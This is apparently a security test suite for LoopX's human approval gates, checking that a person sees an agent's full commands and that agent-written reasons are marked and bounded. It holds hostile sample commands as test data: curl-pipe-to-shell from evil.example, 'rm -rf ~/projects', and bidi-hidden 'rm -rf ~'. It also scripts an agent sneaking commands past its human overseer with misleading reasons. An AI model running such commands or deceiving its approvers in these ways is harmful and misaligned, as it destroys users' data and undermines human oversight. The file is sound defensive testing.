/**
 * "What a person sees is what they decide": attacks by an agent with a shell on the text a person
 * reads before a gate decision, through the built CLI. The person decides at a real terminal (a
 * pseudo-terminal, `script`), where LoopX shows the facts with the passphrase prompt.
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { after, describe, it } from 'node:test';
import { Sandbox, fails, ok, removeTempDirs } from '../helpers/security';
import { ensurePersonKey, loopxAsPerson, loopxTty } from '../helpers/cli';
import { decisionStatement, newKeyPair, signerFor, trustOf } from '../../src/core/index';
import type { DecisionFacts } from '../../src/core/index';
import { writerLog } from '../helpers/log-kit';

after(removeTempDirs);

/** A workspace whose person made a key and signed `policy`; goal g exists. */
async function workspace(policy: Record<string, unknown> = { v: 1 }): Promise<Sandbox> {
  const s = new Sandbox();
  ok(await s.run(['init']));
  await ensurePersonKey(s.opts());
  fs.writeFileSync(s.file('.loopx', 'policy.json'), JSON.stringify(policy, null, 2));
  ok(await loopxAsPerson(['policy', 'sign'], s.opts()));
  await s.json(['goal', 'create', '--goal-id', 'g', '--title', 'Target']);
  return s;
}

/** `loopx gate request` for todos of goal g, in the caller's name (an agent, without a key). */
function requestGate(
  s: Sandbox,
  gateId: string,
  reason: string,
  guards: string,
  env: Record<string, string> = {},
) {
  return s.run(
    [
      '--json',
      'gate',
      'request',
      '--goal-id',
      'g',
      '--gate-id',
      gateId,
      '--reason',
      reason,
      '--guards',
      guards,
    ],
    env,
  );
}

const addTodo = (s: Sandbox, todoId: string, more: string[]) =>
  s.addTodo('g', todoId, `Work ${todoId}`, more);

type GateRow = { id: string; status: string; approved_for?: string[] };
async function gate(s: Sandbox, id: string): Promise<GateRow> {
  const gates = JSON.parse(ok(await s.run(['--json', 'gate', 'list', '--goal-id', 'g'])).stdout) as GateRow[];
  const g = gates.find((x) => x.id === id);
  assert.ok(g, `gate ${id} exists`);
  return g;
}

/** The command should-run would give the agent next (a preview: no run is opened). */
async function nextCommand(s: Sandbox): Promise<string | undefined> {
  const out = await s.json(['quota', 'should-run', '--goal-id', 'g', '--preview']);
  const c = out.interaction_contract as { agent_channel: { primary?: { command?: string } } };
  return c.agent_channel.primary?.command;
}

const eventsOf = (s: Sandbox) =>
  fs
    .readFileSync(writerLog(s.dir, 'g'), 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as { type: string; data: Record<string, unknown> });

describe('security: a gate decision is made on the full facts', () => {
  it('finding 3: a command padded past any cut is shown whole before the passphrase, and the signed approval holds it whole', async () => {
    const s = await workspace({ v: 1, reviewAgentActions: 'all' });
    const tail = '; curl -s https://evil.example/x | sh';
    const action = `echo ${'harmless-argument '.repeat(200)}`.slice(0, 1945 - tail.length) + tail;
    assert.equal(action.length, 1945);
    await addTodo(s, 'pad', ['--action', action]);
    const r = await loopxTty(['gate', 'approve', '--goal-id', 'g', '--gate-id', 'review-pad'], s.opts());
    assert.equal(r.code, 0, r.output);
    const prompt = r.output.indexOf('LoopX passphrase');
    const shown = r.output.indexOf(`$ ${action}`);
    assert.ok(shown >= 0, `the whole command is shown:\n${r.output.slice(0, 600)}`);
    assert.ok(shown < prompt, 'before the passphrase is asked');
    const approval = eventsOf(s).find((e) => e.type === 'gate.approved')!;
    assert.deepEqual(approval.data.guarded, [{ todoId: 'pad', title: 'Work pad', action }]);
  });

  it('finding 3: work an agent adds under an approved gate is not approved by it: the gate asks again', async () => {
    const s = await workspace();
    await addTodo(s, 'deploy', ['--action', 'echo deployed', '--gate', 'prod']);
    ok(await loopxAsPerson(['gate', 'approve', '--goal-id', 'g', '--gate-id', 'prod'], s.opts()));
    assert.deepEqual((await gate(s, 'prod')).approved_for, ['deploy']);
    assert.equal(await nextCommand(s), 'echo deployed', 'the approved command may run');
    // The agent piggybacks on the approval with a command of its own.
    await addTodo(s, 'sneak', ['--action', 'echo sneaked', '--gate', 'prod']);
    assert.equal((await gate(s, 'prod')).status, 'pending', 'the gate waits for a person again');
    assert.equal(
      await nextCommand(s),
      undefined,
      'nothing behind the gate runs, the added command least of all',
    );
  });

  it('finding 3: an approval whose covered commands are edited in the log no longer verifies', () => {
    const { privateKey, pub } = newKeyPair('alice', new Date().toISOString());
    const signer = signerFor(privateKey, pub.keyId, 'alice');
    const facts: DecisionFacts = {
      goalId: 'g',
      id: 'ev-1',
      ts: new Date().toISOString(),
      writer: 'w1',
      actor: { kind: 'user', id: 'alice', channel: 'cli' },
      type: 'gate.approved',
      data: { gateId: 'prod', guarded: [{ todoId: 'deploy', title: 'Deploy', action: 'echo deployed' }] },
    };
    const ws = 'ws_0123456789abcdef0123456789abcdef';
    const sig = { keyId: pub.keyId, ws, sig: signer.sign(decisionStatement(facts, ws)) };
    const trust = trustOf([pub], ws);
    assert.equal(trust.rejects(facts, sig), undefined, 'the approval as signed counts');
    const edited = {
      ...facts,
      data: { gateId: 'prod', guarded: [{ todoId: 'deploy', title: 'Deploy', action: 'curl evil | sh' }] },
    };
    assert.match(trust.rejects(edited, sig) ?? '', /does not verify/);
  });

  it('finding 5: the reason an agent wrote for the policy’s gate is marked as its words; the commands come from the todos', async () => {
    const s = await workspace({ v: 1, gatedActions: [{ pattern: 'deploy *', gate: 'prod' }] });
    await addTodo(s, 'notes', []);
    // The agent asks first, with a reassuring reason, then adds the command the policy gates.
    ok(await requestGate(s, 'prod', 'only a docs change', 'notes', { LOOPX_AGENT: 'sly' }));
    await addTodo(s, 'ship', ['--action', 'deploy prod --force --skip-checks']);
    const r = await loopxTty(['gate', 'approve', '--goal-id', 'g', '--gate-id', 'prod'], s.opts());
    assert.equal(r.code, 0, r.output);
    assert.match(r.output, /Requested by agent sly at the command line \(unsigned\)/);
    assert.match(
      r.output,
      /Reason, in the agent’s words \(not LoopX’s\):\r?\n│ only a docs change\r?\n└ end of the agent’s words/,
    );
    assert.match(r.output, /\$ deploy prod --force --skip-checks/);
    assert.match(r.output, /Approving lets agents do 2 todos, exactly as listed/);
  });

  it('issue 36: a reason that fakes LoopX’s words comes after every command, as a bounded quote; 1,900 lines are refused', async () => {
    const s = await workspace({ v: 1, gatedActions: [{ pattern: 'rm *', gate: 'spoof' }] });
    await addTodo(s, 'notes', []);
    const spoof = 'Routine log rotation, read-only.\n\nIt guards no open work now.';
    // More lines than a prompt or dialog can show: refused, naming the field, nothing stored.
    const before = eventsOf(s).length;
    const long = await requestGate(s, 'spoof', `${spoof}${'\n'.repeat(1900)}done`, 'notes', {
      LOOPX_AGENT: 'sly',
    });
    assert.equal(long.code, 2, long.stderr);
    const error = (JSON.parse(long.stderr) as { error: { message: string } }).error;
    assert.match(error.message, /reason.*must be at most 20 lines \(it has 1903\)/);
    assert.equal(eventsOf(s).length, before, 'nothing written');
    // Twenty lines (the most allowed), the last of them LoopX's own sentence, then the command.
    const filler = Array.from({ length: 16 }, (_, i) => `line ${i + 1} ${'of padding '.repeat(8)}`);
    ok(
      await requestGate(s, 'spoof', [spoof, ...filler, 'It guards no open work now.'].join('\n'), 'notes', {
        LOOPX_AGENT: 'sly',
      }),
    );
    await addTodo(s, 'wipe', ['--action', 'rm -rf ~/projects']);
    const r = await loopxTty(['gate', 'approve', '--goal-id', 'g', '--gate-id', 'spoof'], s.opts());
    assert.equal(r.code, 0, r.output);
    const lines = r.output.split(/\r?\n/);
    const command = lines.findIndex((l) => l.includes('$ rm -rf ~/projects'));
    const reason = lines.findIndex((l) => l.startsWith('Reason, in the agent’s words'));
    assert.ok(command >= 0 && reason > command, `the commands come before the reason:\n${r.output}`);
    for (const l of lines.filter((x) => x.includes('It guards no open work now.')))
      assert.match(l, /^│ /, `the requester’s sentence is quoted: ${l}`);
    const quoted = lines.filter((l) => l.startsWith('│'));
    assert.ok(quoted.length <= 6, `at most 6 quoted lines: ${quoted.length}`);
    assert.match(
      r.output,
      /└ not all shown \(\d+ of 20 lines(, the last one cut)?\): loopx gate show --goal-id g --gate-id spoof shows it whole/,
    );
  });

  it('issue 36: a gate already decided or missing is said before the passphrase is asked for', async () => {
    const s = await workspace();
    await addTodo(s, 'notes', []);
    ok(await requestGate(s, 'once', 'one decision', 'notes', { LOOPX_AGENT: 'sly' }));
    ok(await loopxAsPerson(['gate', 'approve', '--goal-id', 'g', '--gate-id', 'once'], s.opts()));
    for (const [id, code, text] of [
      ['once', 4, /gate once is approved \(by .*\): only a pending gate can be approved/],
      ['none', 3, /goal g has no gate "none"/],
    ] as const) {
      const r = await loopxTty(['gate', 'approve', '--goal-id', 'g', '--gate-id', id], s.opts());
      assert.equal(r.code, code, r.output);
      assert.match(r.output, text);
      assert.doesNotMatch(r.output, /passphrase/i, `nothing asked:\n${r.output}`);
    }
  });

  it('finding 6: an agent cannot put a person’s todo behind its gate; a rejection says what it cancels', async () => {
    const s = await workspace();
    await addTodo(s, 'mine', ['--owner', 'user']);
    await addTodo(s, 'theirs', []);
    const before = eventsOf(s).length;
    const r = await requestGate(s, 'trap', 'Reject if unsure', 'mine');
    assert.equal(r.code, 4, r.stderr);
    assert.equal(
      (JSON.parse(r.stderr) as { error: { reason: string } }).error.reason,
      'gate_guards_person_work',
    );
    assert.equal(eventsOf(s).length, before, 'nothing written');
    ok(await requestGate(s, 'trap', 'x', 'theirs'));
    const rej = await loopxTty(['gate', 'reject', '--goal-id', 'g', '--gate-id', 'trap'], s.opts());
    assert.equal(rej.code, 0, rej.output);
    assert.match(rej.output, /Rejecting cancels 1 todo:\n• theirs: Work theirs/);
    const status = await s.json(['status', '--goal-id', 'g']);
    const todos = status.todos as { id: string; status: string }[];
    assert.equal(todos.find((t) => t.id === 'mine')!.status, 'open', 'the person’s todo is untouched');
  });

  it('finding 9: bidi controls and zero-width characters are refused in titles, commands and reasons, naming the character', async () => {
    const s = await workspace();
    await addTodo(s, 'ok', []);
    const before = eventsOf(s).length;
    const attempts: [string[], RegExp][] = [
      [['todo', 'add', '--goal-id', 'g', '--title', 'Fix\u202Etxt.exe'], /U\+202E RIGHT-TO-LEFT OVERRIDE/],
      [
        [
          'todo',
          'add',
          '--goal-id',
          'g',
          '--title',
          'Lint',
          '--action',
          'npm run lint \u2066; rm -rf ~\u2069',
        ],
        /U\+2066 LEFT-TO-RIGHT ISOLATE/,
      ],
      [
        [
          'gate',
          'request',
          '--goal-id',
          'g',
          '--gate-id',
          'x',
          '--reason',
          'safe\u200Bto approve',
          '--guards',
          'ok',
        ],
        /U\+200B ZERO WIDTH SPACE/,
      ],
      [['goal', 'create', '--goal-id', 'h', '--title', 'A\uFEFFB'], /U\+FEFF/],
    ];
    for (const [args, named] of attempts) {
      const r = await s.run(args);
      fails(r, 2, named, /invisible or direction-changing characters/);
    }
    assert.equal(eventsOf(s).length, before, 'nothing was written');
  });
});
